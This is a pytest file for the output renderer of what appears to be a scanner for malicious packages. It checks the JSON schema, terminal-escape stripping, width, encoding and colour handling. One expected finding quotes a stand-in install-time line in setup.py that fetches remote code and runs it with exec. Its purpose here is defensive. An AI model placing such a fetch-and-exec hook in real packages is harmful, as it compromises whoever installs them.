"""What a person and what a tool read."""

from __future__ import annotations

import io
import json
from pathlib import Path

import jsonschema
import pytest

from pratique.cli.outcome import Outcome
from pratique.cli.render.renderer import Format, renderer
from pratique.finding import Behaviour, Confidence, Phase, Severity, Step
from pratique.verdict import Report
from tests.cli.engines import finding, report

_SCHEMA = json.loads((Path(__file__).parents[2] / "docs" / "report.schema.json").read_text(encoding="utf-8"))


def _render(form: Format, *reports: Report) -> str:
    stream = io.StringIO()
    outcomes = [Outcome(target=f"dist/{r.artifact.name.filename}", report=r) for r in reports]
    out = renderer(form, stream)
    for outcome in outcomes:
        out.write(outcome)
    out.finish(outcomes)
    return stream.getvalue()


def test_every_line_keeps_the_schema() -> None:
    """Each value of each enumeration, an error and a clean report are as `docs/report.schema.json` says."""
    findings = [finding(behaviour=b) for b in Behaviour]
    findings += [finding(severity=s, confidence=c, phase=p) for s in Severity for c in Confidence for p in Phase]
    lines = _render(Format.JSONL, report(), report(*findings), report(error="broken\udcff")).splitlines()
    for line in lines:
        jsonschema.validate(json.loads(line), _SCHEMA)
    assert [json.loads(line)["verdict"] for line in lines] == ["clean", "malicious", "error"]


def test_json_is_one_array_of_the_same_objects() -> None:
    """A tool that wants one document gets what the lines say."""
    reports = report(), report(finding())
    lines = [json.loads(line) for line in _render(Format.JSONL, *reports).splitlines()]
    assert json.loads(_render(Format.JSON, *reports)) == lines
    assert json.loads(_render(Format.JSON)) == []


@pytest.mark.parametrize("form", list(Format))
def test_a_package_cannot_steer_the_terminal(form: Format) -> None:
    """Neither escape sequences nor bidirectional overrides from a finding reach the output of any format."""
    text = _render(form, report(finding()))
    assert not set(text) & {"\x1b", "\r", "\x07", "\u202e", "\x9b"}


def test_text_shows_everything_that_a_person_needs() -> None:
    """Verdict, score, place, code, layers, flow and phase of a finding are all there, and a sum at the end."""
    text = _render(Format.TEXT, report(finding()), report())
    for part in (
        "MALICIOUS",
        "dist/example_pkg-1.0.tar.gz  score 0.99",
        "critical  made-up  second-stage · high confidence · proven chain",
        r"setup.py\x1b[2J  (line 3 of what its layers hide)",
        "3 │ exec(get('https://files.example.invalid/x').text)",
        "base64 → zlib",
        "get  line 2\n            → exec  line 3",
        "runs when it is installed",
        "2 artifacts, 4.0 KiB: 1 malicious, 1 clean",
    ):
        assert part in text


def test_what_was_seen_of_a_clean_artifact_is_a_line_each() -> None:
    """Noise about a file that is passed on stays small, and none of it is hidden without a word."""
    mild = [
        finding(severity=Severity.LOW, confidence=Confidence.LOW, proven=False, message="seen", line=n, layers=())
        for n in range(1, 9)
    ]
    lines = _render(Format.TEXT, report(*mild)).splitlines()
    assert len(lines) == 1 + 5 + 1 + 1
    assert "CLEAN" in lines[0]
    assert lines[1].strip().startswith(r"low, low confidence  made-up  setup.py\x1b[2J:1: seen")
    assert lines[6].strip().startswith("and 3 more")


def test_what_is_said_of_many_files_is_said_once() -> None:
    """The same word on many whole files, as of a limit, names the files; findings with code stay apart."""
    same = [finding(path=f"pkg/{n}.py", code="", flow=(), layers=(), line=0, message="not read") for n in range(9)]
    text = _render(Format.TEXT, report(*same, finding(message="one"), finding(message="two")))
    assert text.count("Not read") == 1
    assert "pkg/0.py\n    and in pkg/1.py, pkg/2.py, pkg/3.py, pkg/4.py, pkg/5.py and 3 more\n" in text
    assert "One" in text
    assert "Two" in text


@pytest.mark.parametrize(
    ("what", "said"),
    [
        ("decoded: base64>zlib", "decoded by base64 → zlib"),
        ("network: 1024", "network"),
        ("network: http://files.example.invalid/x", "network: http://files.example.invalid/x"),
        ("exec", "exec"),
    ],
)
def test_stations_are_said_in_words(what: str, said: str) -> None:
    """A chain of decoders has arrows, and the size of a buffer is not shown as if it were a place."""
    flow = (Step(line=1, what=what), Step(line=2, what="os.system"))
    assert f"flow    {said}  line 1\n" in _render(Format.TEXT, report(finding(flow=flow)))


def test_text_says_what_the_attacker_gains_once() -> None:
    """The consequence is the rule's own sentence, and a rule that fires twice does not repeat it."""
    text = _render(Format.TEXT, report(finding(rule="look-alike", line=1), finding(rule="look-alike", line=2)))
    assert text.count("People install it by mistake.") == 1


@pytest.mark.parametrize("columns", ["24", "40", "80", "400"])
def test_text_keeps_within_the_terminal(columns: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """No line is longer than the terminal or than 120 columns, and nothing is cut off to make it so."""
    monkeypatch.setenv("COLUMNS", columns)
    path = "/".join(f"a_rather_long_folder_name_{n}" for n in range(9))
    text = _render(Format.TEXT, report(finding(path=path, layers=())))
    assert max(len(line) for line in text.splitlines()) <= min(int(columns), 120)
    assert path in text.replace("\n", "").replace(" ", "")


def test_a_long_name_leaves_its_facts_together(monkeypatch: pytest.MonkeyPatch) -> None:
    """Score, size and time stand on one line, below a name that leaves them no room."""
    monkeypatch.setenv("COLUMNS", "60")
    lines = _render(Format.TEXT, report(filename="a" * 25 + "-1.0.tar.gz")).splitlines()
    assert lines[1].strip() == "score 0.02 · 2.0 KiB · 0 ms"


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp437", "utf-8"])
def test_text_can_be_shown_by_any_terminal(encoding: str) -> None:
    """A terminal without arrows or a package full of signs it lacks is no reason to fail."""
    binary = io.BytesIO()
    stream = io.TextIOWrapper(binary, encoding=encoding, newline="\n")
    out = renderer(Format.TEXT, stream)
    out.write(Outcome(target="dist/東京.whl", report=report(finding(message="café → 東京"))))
    out.finish([])
    stream.flush()
    text = binary.getvalue().decode(encoding)
    assert ("→" in text) == (encoding == "utf-8")
    assert "base64 -> zlib" in text or "base64 → zlib" in text


@pytest.mark.parametrize(("variable", "coloured"), [("NO_COLOR", False), ("FORCE_COLOR", True)])
def test_colour_is_the_readers_choice(variable: str, coloured: bool, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: FBT001
    """`NO_COLOR` and `FORCE_COLOR` decide; a stream that is no terminal has no colour by itself."""
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.setenv(variable, "1")
    text = _render(Format.TEXT, report())
    assert ("\x1b[" in text) == coloured


def test_text_says_why_something_was_not_inspected() -> None:
    """An error carries its reason."""
    assert "not inspected: gave up after 120 s" in _render(Format.TEXT, report(error="gave up after 120 s"))


def test_text_says_how_much_it_left_out() -> None:
    """A report with very many findings is cut, and says so."""
    assert "and 5 more" in _render(Format.TEXT, report(*[finding(line=n) for n in range(25)]))


class _Watched(io.StringIO):
    """A stream that remembers how much had been written whenever it was flushed."""

    def __init__(self) -> None:
        super().__init__()
        self.flushed: list[str] = []

    def flush(self) -> None:
        self.flushed.append(self.getvalue())


@pytest.mark.parametrize("form", [Format.TEXT, Format.JSONL])
def test_each_artifact_is_seen_when_it_is_done(form: Format) -> None:
    """Whoever reads along need not wait for the end: every artifact is flushed as it is written."""
    stream = _Watched()
    out = renderer(form, stream)
    for number in range(3):
        out.write(Outcome(target=f"dist/{number}", report=report(finding())))
        assert f"dist/{number}" in stream.flushed[-1]
        assert stream.flushed[-1] == stream.getvalue()


@pytest.mark.parametrize("form", [Format.JSON, Format.JSONL, Format.SARIF])
def test_json_is_the_same_in_any_encoding(form: Format) -> None:
    """A terminal that is not UTF-8 gets escapes, which mean the same."""
    said = []
    for encoding in ("ascii", "latin-1", "utf-8"):
        binary = io.BytesIO()
        stream = io.TextIOWrapper(binary, encoding=encoding)
        out = renderer(form, stream)
        outcomes = [Outcome(target="dist/東京🚀.whl", report=report(finding(message="café 🚀")))]
        out.write(outcomes[0])
        out.finish(outcomes)
        stream.flush()
        said.append(json.loads(binary.getvalue().decode(encoding)))
    assert said[0] == said[1] == said[2]
